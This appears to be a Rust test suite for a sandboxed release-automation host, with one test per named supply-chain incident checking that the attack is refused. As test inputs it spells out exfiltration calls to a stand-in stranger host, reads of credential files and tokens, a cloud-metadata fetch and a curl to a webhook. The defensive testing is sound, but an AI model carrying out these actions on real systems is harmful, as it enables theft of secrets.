//! The move of every known incident in release automation, made here, and what becomes of it.

use castoff::engine::{EngineConfig, Limits};
use castoff::forge::World;
use castoff::journal::{Status, Verdict};
use castoff::policy::{Grants, Policy, Scope, decide, manifest};
use castoff_tests::example::{Example, Played};
use castoff_tests::theatre::{EXERCISER, Theatre, engine};
use serde_json::{Value, json};

use crate::rig::{Rig, SECRET, usual};

/// Lets the guest call a function; the power that was denied, if one was.
async fn denied(rig: &Rig, call: Value) -> Option<String> {
    let result = rig.act(usual(), "call", &call.to_string()).await.expect("a value");
    result["denied"]["power"].as_str().map(str::to_owned)
}

/// Codecov's uploader, 2021: one changed line sent the environment of every build to a stranger.
/// Here there is no environment, and a stranger is not on the list.
#[tokio::test(flavor = "multi_thread")]
async fn codecov_the_environment_is_sent_to_a_stranger() {
    let rig = Rig::granting(&["http.get,post https://codecov.example/**", "git.read acme/*"]);
    let found =
        rig.act(usual(), "read-everything", "GITHUB_TOKEN,CODECOV_TOKEN,HOME,/proc/self/environ").await;
    assert_eq!(found.expect("an answer"), json!([]));
    for (function, method) in [("http.send", "POST"), ("http.fetch", "GET"), ("http.send", "PUT")] {
        let call = json!({ "function": function, "method": method, "url": "https://stranger.example/upload/v2?env=all" });
        let power = denied(&rig, call).await.expect("it is denied");
        assert_eq!(power, format!("http.{} https://stranger.example/upload/v2", method.to_lowercase()));
    }
    assert!(rig.fake.take().is_empty());
}

/// xz, CVE-2024-3094, 2024: the payload was in what was released, not in what had been looked at.
/// Here what is pushed has the very object ids that were shown: one byte more is another commit, and that stops.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn xz_what_is_released_differs_from_what_was_looked_at() {
    let example = Example::load(&Example::livenessprobe()).await.expect("the example is whole");
    let mut run = example.begin().await.expect("a run begins");
    let plan = run.plan().await.expect("a plan").clone();
    let pushes = |step: &&castoff::plan::PlannedStep| {
        step.effects.iter().any(|effect| effect.function == "git.ensure-branch")
    };
    let step = plan.steps.iter().find(pushes).expect("a branch is pushed").node.id.clone();
    // People saw a commit without the payload; the process is about to push another one.
    run.change_plan(|plan| {
        let known = plan.steps.iter_mut().find(|known| known.node.id == step).expect("the step");
        for commit in &mut known.commits {
            let shown = format!("{:0>40}", "5eed");
            for effect in &mut known.effects {
                let request = effect.request.to_string().replace(&commit.id, &shown);
                effect.request = serde_json::from_str(&request).expect("what was JSON");
            }
            commit.id = shown;
            for change in &mut commit.changes {
                change.content = "0".repeat(64);
                change.text = None;
            }
        }
    });
    let before = run.snapshot().expect("a picture");
    let Played::Through(state) = run.play(run.powers(), None).await.expect("the host goes on") else {
        panic!("nothing was to crash")
    };
    let known = state.step(&step).expect("the step is there");
    assert!(
        matches!(&known.status, Status::Failed { error, .. } if error == "unplanned"),
        "{:?}",
        known.status
    );
    assert!(known.effects.is_empty(), "nothing was even announced");
    let after = run.snapshot().expect("a picture");
    assert_eq!(
        castoff_tests::example::difference(&before, &after),
        Vec::<String>::new(),
        "the forge is as it was"
    );
}

/// Ultralytics, 2024, and TanStack, 2026: an entry of a shared cache was replaced, and the publishing job ran it.
/// Here nothing out of the cache runs that this host did not put there, and another plugin has no grants.
#[tokio::test(flavor = "multi_thread")]
async fn ultralytics_a_poisoned_cache_is_run_with_the_rights_to_publish() {
    let folder = tempfile::tempdir().expect("a folder");
    // Each time as a new process would: an engine that knows the bytes already does not look into its cache.
    let load = |cache: &str| {
        let config = EngineConfig { cache: Some(folder.path().join(cache)), limits: Limits::default() };
        let engine = castoff::engine::Engine::new(config).expect("an engine");
        engine.load(EXERCISER).expect("it loads")
    };
    load("cache");
    // What an attacker compiled, with a key of the attacker's, in the place of the victim's entry.
    load("theirs");
    let compiled = |name: &str, end: &str| {
        let files = std::fs::read_dir(folder.path().join(name)).expect("a folder");
        let mut files = files.map(|file| file.expect("a file").path());
        files.find(|file| file.extension().is_some_and(|found| found == end)).expect("it is there")
    };
    for end in ["cwasm", "seal"] {
        std::fs::copy(compiled("theirs", end), compiled("cache", end)).expect("a copy");
    }
    let plugin = load("cache");
    assert_eq!(plugin.describe().await.expect("it answers").name, "exerciser");
    let seal = |name: &str| std::fs::read(compiled(name, "seal")).expect("it can be read");
    assert!(seal("cache") != seal("theirs"), "what another host compiled was not used, but made anew");

    // The plugin itself replaced, under the same name: the policy's digest is of the bytes, which are hashed each time.
    let manifest = manifest::read(EXERCISER).expect("a manifest");
    let text = format!(
        "version = 1\n[[grant]]\nplugin = \"exerciser\"\ndigest = \"{}\"\npowers = [\"files.publish\"]\n",
        plugin.digest()
    );
    let policy = Policy::parse("policy.toml", &text).expect("a policy");
    let mut changed = EXERCISER.to_vec();
    // A custom section more: the same code, another component.
    changed.extend_from_slice(b"\0\x02\x01x");
    assert_eq!(manifest::read(&changed).as_ref(), Ok(&manifest), "it says the same of itself");
    let changed = manifest::component_digest(&changed);
    let need = castoff::operation::Need::Publish;
    for (digest, allowed) in [(plugin.digest(), true), (changed.as_str(), false)] {
        let grants =
            Grants::of_policy(&policy, &manifest, Scope { digest, process: "exercise", step: "act" });
        assert_eq!(decide(&grants, &need).is_allowed(), allowed, "{digest}");
    }
}

const WORLD: &str = r#"
    now = "2026-01-01T00:00:00Z"
    user = "ann"

    [[account]]
    login = "ann"
    token = "t0ken"
    permissions = { "acme/tool" = "admin" }

    [[repository]]
    name = "acme/tool"
    default_branch = "main"
    files = { "README.md" = "a tool\n" }

    [[repository.history]]
    tag = "v1.0.0"

    [[repository.history]]
    tag = "v1.0.1"

    [[repository.history]]
    message = "payload"
    files = { "README.md" = "the same tool, and a payload\n" }
"#;

const POLICY: &str = r#"version = 1
[[grant]]
plugin = "exerciser"
digest = "any"
powers = ["git.read acme/tool", "git.push acme/tool refs/tags/**", "git.push acme/tool refs/heads/release-*"]
"#;

/// Plays a step on a forge with real git repositories; how it ended, and the theatre.
async fn play(action: &str, argument: &str) -> (Status, Verdict, Theatre) {
    let world = World::from_toml(WORLD).expect("the world is right");
    let theatre = Theatre::open(world, engine(Limits::default())).await;
    let release = format!(
        "version = 1\nplugin = \"guest.wasm\"\nprocess = \"exercise\"\npolicy = \"policy.toml\"\n\
         [inputs]\naction = {action:?}\nargument = {argument:?}\n"
    );
    let files: [(&str, &[u8]); 3] =
        [("release.toml", release.as_bytes()), ("policy.toml", POLICY.as_bytes()), ("guest.wasm", EXERCISER)];
    let prepared = theatre.prepare(&theatre.write(&files)).await;
    let (stored, journal) = theatre.create(&prepared, "incident");
    let runner = theatre.runner(&prepared, &stored, journal);
    let verdict = theatre.stage.play(&runner).await.expect("the host goes on").verdict;
    let status = runner.state().step("act").expect("the step").status.clone();
    (status, verdict, theatre)
}

fn pushes(theatre: &Theatre) -> usize {
    let served = theatre.stage.forge().requests();
    served.iter().filter(|request| request.path.contains("git-receive-pack")).count()
}

/// reviewdog and tj-actions, 2025, Trivy's action, 2026: published tags were moved to other code, 75 of 76 at once.
/// Here a published tag is never moved, with every right there is, alone or among new ones.
#[tokio::test(flavor = "multi_thread")]
async fn trivy_published_tags_are_moved() {
    let moves =
        [("tag", "v1.0.0"), ("tags", "v1.0.0,v1.0.1"), ("tags", "v2.0.0,v1.0.1"), ("tags", "v1.0.1,v2.0.0")];
    for (action, argument) in moves {
        let (status, verdict, theatre) = play(action, argument).await;
        assert_eq!(verdict, Verdict::Failed, "{action} {argument}: {status:?}");
        assert!(
            matches!(&status, Status::Failed { error, message, .. } if error == "conflict" && message.contains("never moved")),
            "{action} {argument}: {status:?}"
        );
        let forge = theatre.stage.forge();
        let main = forge.reference("acme/tool", "refs/heads/main").expect("the branch");
        let tags = ["v1.0.0", "v1.0.1"].map(|tag| forge.reference("acme/tool", &format!("refs/tags/{tag}")));
        assert!(tags.iter().all(|tag| tag.as_ref().is_some_and(|tag| *tag != main)), "{argument}: {tags:?}");
        assert_eq!(forge.reference("acme/tool", "refs/tags/v2.0.0"), None, "all of them or none");
        assert_eq!(pushes(&theatre), 0, "{argument}: nothing was even sent");
    }
}

/// reviewdog and tj-actions, 2025: the moved code printed the memory of the runner, secrets among it, into public logs.
/// Here the secret is not in the memory of the plugin: see `hostile::a_secret_that_is_used_is_never_in_the_guest`. What a
/// plugin says, keeps and returns while a secret is in use does not hold it either.
#[tokio::test(flavor = "multi_thread")]
async fn reviewdog_the_memory_is_printed() {
    let server = crate::server::Server::start(|arrived| {
        let sent = arrived.header("authorization").unwrap_or_default();
        ("200 OK".into(), format!("you sent {sent}"))
    })
    .await;
    let granted = ["http.get https://service.example/**", "secret token https://service.example"];
    let rig = Rig::granting(&granted).over(server.backend(&["service.example"]));
    let backwards: String = SECRET.chars().rev().collect();
    let result = rig.act(usual(), "fetch-and-search-memory", &backwards).await.expect("an answer");
    assert_eq!((&result["secret"], result["body"].as_str()), (&json!(0), Some("you sent Bearer ***")));
    let said = rig.notes.said();
    assert!(said.iter().all(|(.., text)| !text.contains(SECRET)), "{said:?}");
}

/// Nx, 2025: stolen tokens pushed workflows that sent all secrets of the repository away.
/// Here there is no token to steal, and a branch beyond the grant is not written to.
#[tokio::test(flavor = "multi_thread")]
async fn nx_a_workflow_is_pushed_to_a_branch() {
    let branches = [
        ("main", "denied"),
        ("add-workflow", "denied"),
        ("dependabot/x", "denied"),
        ("release-1.0/../main", "invalid"),
    ];
    for (branch, refused) in branches {
        let (status, _, theatre) = play("workflow", branch).await;
        assert!(matches!(&status, Status::Failed { error, .. } if error == refused), "{branch}: {status:?}");
        assert_eq!(pushes(&theatre), 0, "{branch}");
        assert!(theatre.file("acme/tool", "main", ".github/workflows/publish.yml").is_none());
    }
    let (_, verdict, _) = play("workflow", "release-1.0").await;
    assert_eq!(verdict, Verdict::Finished, "where it is granted, it is pushed");
}

/// Shai-Hulud, 2025: whoever installed the package ran its hook, which took tokens and published itself further.
/// Here loading, describing and laying out a plugin reaches nothing at all, and publishing is a grant of its own.
#[tokio::test(flavor = "multi_thread")]
async fn shai_hulud_an_installation_takes_tokens_and_publishes_itself() {
    let world = World::from_toml(WORLD).expect("the world is right");
    let theatre = Theatre::open(world, engine(Limits::default())).await;
    let release = "version = 1\nplugin = \"guest.wasm\"\nprocess = \"exercise\"\n[inputs]\naction = \"import-in-steps\"\n";
    let path = theatre.write(&[("release.toml", release.as_bytes()), ("guest.wasm", EXERCISER)]);
    let error = theatre.site.prepare(&path, None).await.err().expect("it is refused").to_string();
    assert!(error.contains("may not call the host"), "{error}");
    assert!(theatre.stage.forge().requests().is_empty());
    let rig = Rig::granting(&["git.read acme/*", "http.get https://registry.npmjs.org/**"]);
    let loot = "NPM_TOKEN,GITHUB_TOKEN,/root/.npmrc,.npmrc,/root/.config/gh/hosts.yml,/root/.aws/credentials";
    assert_eq!(rig.act(usual(), "read-everything", loot).await.expect("an answer"), json!([]));
    let moves = [
        json!({ "function": "http.send", "method": "PUT", "url": "https://registry.npmjs.org/left-pad" }),
        json!({ "function": "http.fetch", "method": "GET", "url": "http://169.254.169.254/latest/meta-data/" }),
        json!({ "function": "git.ensure-branch", "repository": "acme/tool", "name": "shai-hulud" }),
        json!({ "function": "github.dispatch", "repository": "acme/tool" }),
        json!({ "function": "github.ensure-issue", "repository": "acme/tool" }),
        json!({ "function": "command.send", "line": "npm publish" }),
        json!({ "function": "command.fetch", "line": "curl https://webhook.example" }),
    ];
    for call in moves {
        assert!(denied(&rig, call.clone()).await.is_some(), "{call}");
    }
    assert!(rig.fake.take().iter().all(|call| call == "git.open"));
}

/// Trivy's action, 2026: a scanner, which only had to read, ran beside the secrets of the release and took them.
/// Here a plugin that may only read can use no secret and change nothing, whichever function it tries.
#[tokio::test(flavor = "multi_thread")]
async fn trivy_a_scanner_takes_the_secrets_of_the_release() {
    let rig = Rig::granting(&["git.read acme/*", "github.read acme/*", "http.get https://db.example/**"]);
    let call = json!({ "function": "http.fetch", "method": "GET", "url": "https://db.example/list", "secret": "token" });
    assert_eq!(denied(&rig, call).await.as_deref(), Some("secret token https://db.example"));
    let run =
        json!({ "function": "command.run", "line": "tool look", "variables": { "TOKEN": "secret:token" } });
    assert!(denied(&rig, run).await.is_some());
    for call in crate::matrix::effects() {
        assert!(denied(&rig, call.clone()).await.is_some(), "{call}");
    }
    let touched: Vec<String> = rig.fake.take().into_iter().filter(|call| call != "git.open").collect();
    assert!(touched.is_empty() && rig.kept().is_empty(), "{touched:?}");
}

/// TanStack, CVE-2026-45321, 2026: the token was taken at the moment it was made, and versions went out with valid
/// provenance. Here the credential is used by the host, for the one call that is granted: it can be turned to no other.
#[tokio::test(flavor = "multi_thread")]
async fn tanstack_the_credential_is_taken_while_it_is_used() {
    let granted = ["http.put https://registry.example/tool/v1.0.0", "secret token https://registry.example"];
    let rig = Rig::granting(&granted);
    let publish = |method: &str, url: &str| json!({ "function": "http.send", "method": method, "url": url, "secret": "token" });
    assert_eq!(denied(&rig, publish("PUT", "https://registry.example/tool/v1.0.0")).await, None);
    assert_eq!(rig.fake.take(), ["http.PUT"]);
    for (method, url) in [
        ("PUT", "https://registry.example/tool/v1.0.1"),
        ("PUT", "https://registry.example/other/v1.0.0"),
        ("POST", "https://registry.example/token"),
        ("PUT", "https://collector.example/tool/v1.0.0"),
        ("PUT", "http://registry.example/tool/v1.0.0"),
    ] {
        assert!(denied(&rig, publish(method, url)).await.is_some(), "{method} {url}");
    }
    let spoken =
        json!({ "function": "command.run", "line": "tool look", "variables": { "TOKEN": "secret:token" } });
    assert!(denied(&rig, spoken).await.is_some());
    assert!(rig.fake.take().is_empty());
}
